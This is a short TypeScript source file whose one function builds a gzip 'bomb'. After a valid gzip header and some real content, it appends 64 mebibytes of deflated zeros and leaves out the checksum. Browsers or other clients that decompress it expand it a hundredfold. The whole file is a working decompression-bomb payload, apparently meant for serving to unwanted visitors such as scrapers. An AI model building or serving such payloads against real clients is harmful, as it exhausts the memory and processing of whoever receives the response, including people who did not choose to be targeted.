import { constants, deflateRawSync } from 'node:zlib'

const MIB = 1024 * 1024
/** So much comes out of it, of less than a hundredth on the wire. */
const BOMB_MIB = 64
const HEADER = Buffer.from('1f8b0800000000000003', 'hex')

/** The right bytes, and zeros without end. One stream, since browsers ignore a second one; its checksum, where nobody gets, is left out. */
export function gzipBombAfter(part: Uint8Array): Uint8Array {
  const raw = (bytes: Uint8Array): Buffer => deflateRawSync(bytes, { finishFlush: constants.Z_FULL_FLUSH })
  const zeros = raw(Buffer.alloc(MIB))
  return Buffer.concat([HEADER, raw(part), ...Array.from({ length: BOMB_MIB }, () => zeros)])
}
